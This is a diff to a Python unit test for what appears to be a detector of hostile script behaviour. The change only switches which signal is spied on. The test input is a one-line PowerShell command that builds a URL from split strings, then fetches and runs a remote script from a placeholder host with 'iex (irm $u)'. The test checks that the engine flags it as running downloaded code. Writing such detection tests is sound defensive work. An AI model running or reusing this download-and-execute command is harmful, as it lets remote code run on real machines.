@@ -46,12 +46,13 @@ def test_behaviours_are_on_the_analysis_for_signals(engine: Engine) -> None:
         seen.append(a)
         return []
 
-    original = signals.SIGNALS["context"]
-    signals.SIGNALS["context"] = spy
+    # a signal with no need, so the engine calls it on every text ("context" it never calls)
+    original = signals.SIGNALS["deep-encoding"]
+    signals.SIGNALS["deep-encoding"] = spy
     try:
         engine.analyze("$u='https://upd.example/'+'s'; iex (irm $u)")
     finally:
-        signals.SIGNALS["context"] = original
+        signals.SIGNALS["deep-encoding"] = original
     assert seen and Behaviour.RUNS_DOWNLOADED in seen[0].behaviours
     assert seen[0].behaviours[Behaviour.RUNS_DOWNLOADED] == ["https://upd.example/s"]
 
